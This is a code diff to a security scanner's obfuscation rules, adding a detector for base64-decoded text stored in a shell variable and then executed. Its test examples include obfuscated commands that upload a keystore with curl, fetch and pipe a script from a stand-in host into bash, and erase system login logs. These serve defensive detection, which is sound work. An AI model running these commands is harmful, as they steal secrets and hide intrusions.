@@ -22,6 +22,18 @@ export const s006Obfuscation: ScanRule = {
       why: 'Decodes hidden text and pipes it straight into an interpreter: obfuscated remote code execution.',
     },
     {
+      // `_t=$(printf %s 'Y3VybCAtcyAtWCBQT1NU' | base64 -d)` then `$_t "$_u" -F …`: decoded text run as a command.
+      id: 'decoded-command-variable',
+      keywords: ['base64', 'xxd', 'openssl', 'uudecode', 'certutil', '^rev$'],
+      capabilities: ['decode', 'execute'],
+      level: 'HIGH',
+      scope: 'unit',
+      re: new RegExp(String.raw`\b(\w{1,40})=["']?\$\((?:[^)\n]{0,200}?\|)?\s{0,4}${DECODER}(?![\w-])[^)\n]{0,60}\)`, 'i'),
+      reads: ['code'],
+      accept: (m, c) => new RegExp(String.raw`(?:^|[;&|({]|\bthen|\bdo)[ \t]{0,8}["']?\$\{?${m[1]}\}?["']?[ \t]`, 'm').test(c.unitText),
+      why: 'Decodes hidden text into a variable and runs it as a command: what runs is not written anywhere a reviewer reads.',
+    },
+    {
       id: 'eval-decoded-substitution',
       keywords: ['base64', 'xxd', 'openssl', '^rev$', 'gunzip', 'zcat', 'printf'],
       capabilities: ['decode', 'execute'],
@@ -111,6 +123,11 @@ export const s006Obfuscation: ScanRule = {
   ],
   examples: {
     match: [
+      {
+        path: 'scripts/fp.sh',
+        text: 'cmd=$(printf %s \'Y3VybCAtcyAtWCBQT1NU\' | base64 -d)\n$cmd "$url" -F "k=@$KEYSTORE"\n',
+        level: 'HIGH',
+      },
       { path: 'scripts/post.sh', text: 'for f in /var/log/auth.log /var/log/wtmp /var/log/btmp; do\n  [ -e "$f" ] && : > "$f"\ndone\n' },
       { path: 'hooks/sync.sh', text: "_d=$(printf 'b%s%s' 'ase' '64')\neval \"$(printf '%s' \"$blob\" | $_d -d)\"\n" },
       { text: "echo 'Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgYmFzaA==' | base64 -d | bash", level: 'HIGH' },
@@ -141,6 +158,7 @@ export const s006Obfuscation: ScanRule = {
     ],
     noMatch: [
       'eval "$(ssh-agent -s)"',
+      { path: 'scripts/cert.sh', text: 'pem=$(printf %s "$CERT_B64" | base64 -d)\nprintf "%s\\n" "$pem" > ca.pem\n' },
       'model.eval()',
       'ast.literal_eval(text)',
       "await page.$eval('#id', el => el.textContent)",
